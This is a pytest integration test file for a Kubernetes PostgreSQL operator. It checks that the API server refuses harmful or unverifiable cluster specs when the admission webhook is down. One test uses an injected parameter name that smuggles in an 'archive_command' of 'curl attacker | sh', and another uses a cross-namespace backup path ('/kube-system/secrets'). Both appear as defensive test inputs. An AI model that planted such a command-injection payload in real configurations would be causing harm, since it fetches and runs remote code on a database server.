"""Admission cannot fail open: with no operator running, a real API server still refuses what
could harm a cluster, and refuses what only the webhook can judge instead of admitting it.

The API-server-only cluster here never runs an operator. The webhook configuration is the
operator's own (``webhook.webhook_configuration``), pointing at a port nobody listens on: an
operator outage, as the API server sees it.
"""

from __future__ import annotations

import socket
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from lightkube import ApiError, Client, codecs
from lightkube.models.meta_v1 import ObjectMeta
from lightkube.resources.admissionregistration_v1 import ValidatingWebhookConfiguration
from lightkube.resources.core_v1 import Namespace
from lightkube.types import PatchType

from stateward import pki
from stateward.controllers.kube import PostgresClusterResource
from stateward.runtime import webhook
from stateward_local.cluster import LocalCluster
from stateward_local.run import install_crds
from tests.conftest import client_for
from tests.integration.conftest import pgc_body
from tests.support import clusters

pytestmark = pytest.mark.integration

MERGE = PatchType.MERGE


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture(scope="module")
def no_operator(apiserver: LocalCluster) -> Iterator[tuple[Client, str]]:
    """The CRDs and the operator's webhook configuration, with no operator behind it."""
    client = client_for(apiserver)
    install_crds(client)
    ca = pki.Authority.new("nobody")
    endpoint = webhook.Endpoint(namespace="stateward-system", port=_closed_port(), host="127.0.0.1")
    client.apply(
        ValidatingWebhookConfiguration.from_dict(
            webhook.webhook_configuration(endpoint, ca.cert_pem)
        ),
        field_manager="stateward-tests",
        force=True,
    )
    namespace = f"t-{uuid.uuid4().hex[:10]}"
    client.create(Namespace(metadata=ObjectMeta(name=namespace)))
    yield client, namespace
    client.delete(ValidatingWebhookConfiguration, webhook.CONFIGURATION_NAME)


def _create(client: Client, body: dict[str, Any]) -> str:
    """The API server's refusal message, or "" when it admitted the object."""
    try:
        client.create(codecs.from_dict(body))
    except ApiError as error:
        return f"{error.status.code}: {error.status.message}"
    return ""


def test_an_injected_parameter_name_is_refused_by_the_api_server_alone(
    no_operator: tuple[Client, str],
) -> None:
    client, ns = no_operator
    injected = {"x = 1\narchive_command": "curl attacker | sh"}
    message = _create(client, pgc_body("inject", ns, postgresql={"parameters": injected}))
    assert "spec.postgresql.parameters names must each be a PostgreSQL parameter name" in message
    assert message.startswith("422: ")  # Invalid, said by CEL: the webhook is not there
    assert "admission webhook" not in message
    # Every spelling of a managed parameter, not just lowercase.
    message = _create(client, pgc_body("upper", ns, postgresql={"parameters": {"WAL_LEVEL": "x"}}))
    assert "spec.postgresql.parameters must not set WAL_LEVEL: the operator manages it" in message
    # An extension's parameter is a name like any other.
    fine = {"pg_stat_statements.max": "1000", "work_mem": "64MB"}
    assert _create(client, pgc_body("fine", ns, postgresql={"parameters": fine})) == ""


def test_what_only_the_webhook_checks_is_refused_while_it_cannot_answer(
    no_operator: tuple[Client, str],
) -> None:
    client, ns = no_operator
    # A schedule only the webhook can judge: refused, not admitted unchecked.
    scheduled = pgc_body("nightly", ns, backupSchedule="0 3 * * *", backup=clusters.BACKUP)
    message = _create(client, scheduled)
    assert "failed calling webhook" in message and webhook.WEBHOOK_NAME in message, message
    # Everything CEL can check never waits for the operator.
    name = f"plain-{uuid.uuid4().hex[:6]}"
    assert _create(client, pgc_body(name, ns)) == ""
    client.patch(
        PostgresClusterResource, name, {"spec": {"replicas": 2}}, namespace=ns, patch_type=MERGE
    )
    # Fencing needs the webhook (its JSON): refused while nobody can check it ...
    with pytest.raises(ApiError) as refused:
        client.patch(
            PostgresClusterResource,
            name,
            {"metadata": {"annotations": {"stateward.io/fenced-instances": '["x"]'}}},
            namespace=ns,
            patch_type=MERGE,
        )
    assert "failed calling webhook" in str(refused.value.status.message)
    # ... and an unrelated edit of an object is not held up by it.
    client.patch(
        PostgresClusterResource,
        name,
        {"metadata": {"labels": {"team": "a"}}},
        namespace=ns,
        patch_type=MERGE,
    )
    stored = client.get(PostgresClusterResource, name, namespace=ns)
    assert stored.spec["replicas"] == 2 and stored.metadata.labels["team"] == "a"


def test_a_repository_path_is_checked_by_the_webhook_or_not_admitted(
    no_operator: tuple[Client, str],
) -> None:
    client, ns = no_operator

    def with_path(name: str, path: str) -> dict[str, Any]:
        backup = {"repository": {"s3": {**clusters.BACKUP["repository"]["s3"], "path": path}}}
        return pgc_body(name, ns, backup=backup)

    # A path may name another namespace's backups, and only the webhook knows the namespace:
    # while it cannot answer, a write that sets one is refused, never admitted unchecked.
    message = _create(client, with_path("thief", "/kube-system/secrets"))
    assert "failed calling webhook" in message, message
    # The default path (/NAMESPACE/NAME) never waits for the operator.
    assert (
        _create(client, pgc_body(f"plain-{uuid.uuid4().hex[:6]}", ns, backup=clusters.BACKUP)) == ""
    )
